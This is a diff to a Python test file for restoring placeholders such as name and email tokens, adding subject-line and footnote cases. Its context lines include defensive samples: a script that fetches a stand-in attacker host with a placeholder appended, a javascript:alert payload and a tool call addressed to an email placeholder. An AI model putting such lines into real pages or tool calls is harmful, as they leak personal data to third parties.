@@ -94,6 +94,8 @@ def test_what_is_held_back_is_bounded(text: str, size: int) -> None:
         ("name = '[PERSON_LAST_7Q2M]'  # [EMAIL_2X9P]", "name = 'O'Neil'  # zoe@example.org"),
         ("<b>[PERSON_LAST_7Q2M]</b> <[EMAIL_2X9P]> <EMAIL_2X9P>", "<b>O'Neil</b> <zoe@example.org> <zoe@example.org>"),
         ("[TEXT_9K3N]", "[PERSON_7Q2M]"),
+        ("[Subject]: Reply to [PERSON_LAST_7Q2M]", "[Subject]: Reply to O'Neil"),
+        ("[^1]: [EMAIL_2X9P] wrote", "[^1]: zoe@example.org wrote"),
         (
             "see [URL_3H3H] [1](#top) and/or [PERSON_LAST_7Q2M]",
             "see https://shop.example.org/a [1](#top) and/or O'Neil",
@@ -124,6 +126,7 @@ LEAVING = [
     '<a href="[URL_3H3H]">x</a>',
     "<script>fetch('https://evil.example/'+'[PERSON_7Q2M]')</script><https://e.example/[PERSON_7Q2M]>",
     "[id]: /x?[PERSON_7Q2M]",
+    "[id]:\n  [URL_3H3H] 'title'",
     "background: url([URL_3H3H])",
     "javascript:alert('[PERSON_7Q2M]')",
     '<tool_call>{"to": "[EMAIL_2X9P]"}</tool_call>',
